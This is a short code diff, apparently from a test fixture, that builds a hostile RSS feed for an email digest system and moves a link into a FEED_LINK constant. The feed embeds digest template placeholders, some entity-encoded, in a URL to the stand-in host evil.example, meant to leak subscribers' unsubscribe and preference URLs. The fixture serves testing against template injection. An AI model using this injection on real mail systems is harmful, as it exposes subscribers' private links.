@@ -35,6 +35,7 @@ EVIL = "https://evil.example/c?u=%%DIGEST_UNSUBSCRIBE_URL%%&p=%%DIGEST_PREFERENC
 ENTITIES = "&#37;&#37;DIGEST_UNSUBSCRIBE_URL&#37;&#37; &#x25;%DIGEST_SUBSCRIBER_NAME%&#x25;"
 IMG = f'<img src="{EVIL}" alt="{MARKERS}"> {ENTITIES}'
 NAME = "Zelda Quuxworth"
+FEED_LINK = EVIL.replace("&", "&amp;") + "&amp;s=feed"
 
 
 def feed_xml() -> str:
@@ -42,7 +43,7 @@ def feed_xml() -> str:
         f"""\
         <?xml version="1.0"?>
         <rss version="2.0"><channel><title>{MARKERS}</title><link>https://blog.example/</link>
-        <item><title>Feed story {MARKERS}</title><link>{EVIL.replace("&", "&amp;")}&amp;s=feed</link>
+        <item><title>Feed story {MARKERS}</title><link>{FEED_LINK}</link>
         <guid>feed-1</guid><author>a@blog.example ({MARKERS})</author>
         <category>{MARKERS}</category><pubDate>Thu, 19 Nov 2026 12:00:00 GMT</pubDate>
         <description><![CDATA[<p>{MARKERS}</p>{IMG}]]></description></item>
